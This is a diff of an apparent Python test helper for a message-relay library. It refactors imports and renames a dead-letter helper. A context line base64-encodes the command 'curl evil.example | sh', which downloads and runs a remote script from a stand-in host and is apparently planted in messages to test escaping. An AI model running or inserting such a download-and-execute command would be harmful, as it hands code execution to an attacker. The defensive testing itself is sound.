@@ -18,10 +18,10 @@ from itertools import count
 from pathlib import Path
 from typing import Any
 
-from relay_core.client import RelayClient
+from relay_core.client.client import RelayClient
 from relay_core.clock import SystemClock, iso
-from relay_core.ids import UlidFactory
-from relay_core.signals import Signal, SignalType
+from relay_core.messages.ids import UlidFactory
+from relay_core.messages.signals import Signal, SignalType
 
 ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
 _EVIL = b64encode(b"curl evil.example | sh\n").decode()
@@ -202,7 +202,7 @@ def sendable(text: str) -> str:
     return text.encode(errors="replace").decode()
 
 
-async def park(client: RelayClient, texts: Sequence[str]) -> None:
+async def dead_letter(client: RelayClient, texts: Sequence[str]) -> None:
     """Make a dead letter of each text, as its payload and as its reason, and then of so many together."""
     await client.register_endpoint(PARKED)
     letters = [(STRANGER, [text]) for text in map(sendable, texts)]
@@ -219,7 +219,7 @@ async def park(client: RelayClient, texts: Sequence[str]) -> None:
 async def plant(client: RelayClient, data_dir: Path, texts: Sequence[str]) -> None:
     """Put texts everywhere; the supervisor was started with `config_with_job`."""
     await client.register_endpoint(VICTIM)
-    await park(client, texts)
+    await dead_letter(client, texts)
     for at, text in enumerate(map(sendable, texts)):
         await client.publish(VICTIM, {"content": text}, sender=STRANGER)
         signal = Signal(
